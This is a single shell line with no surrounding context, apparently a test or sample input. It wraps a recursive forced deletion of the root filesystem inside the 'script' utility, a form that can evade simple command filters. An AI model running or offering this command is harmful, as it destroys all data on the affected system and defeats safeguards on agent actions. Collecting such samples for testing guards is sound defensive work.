script -qc 'rm -rf /' /dev/null
